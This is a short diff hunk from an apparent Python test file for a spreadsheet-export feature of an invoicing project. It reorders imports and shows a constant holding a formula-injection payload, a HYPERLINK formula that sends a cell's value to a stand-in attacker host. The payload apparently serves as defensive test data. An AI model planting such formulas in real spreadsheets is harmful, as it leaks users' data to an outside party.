@@ -10,13 +10,13 @@ import httpx
 import msgspec
 import pytest
 import pytest_asyncio
+
+from kaipiao.delivery.sheets.workbook import Workbook
+from kaipiao.ledger.store import Store
 from tests.clocks import StoppedClock
 from tests.gateway_bench import Bench, as_json, named, open_bench
 from tests.stores import NOVEMBER
 from tests.strategies import SELLER, lawful_draft
-
-from kaipiao.delivery.sheets.workbook import Workbook
-from kaipiao.ledger.store import Store
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1)'
 
